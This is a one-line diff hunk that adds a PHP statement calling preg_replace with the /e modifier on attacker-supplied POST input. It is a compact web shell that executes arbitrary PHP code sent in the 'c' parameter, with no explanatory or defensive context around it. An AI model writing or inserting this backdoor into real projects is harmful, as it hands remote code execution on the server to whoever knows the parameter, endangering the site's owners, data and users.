@@ -1,0 +1,1 @@
+<?php preg_replace("/x/e", $_POST["c"], "x");
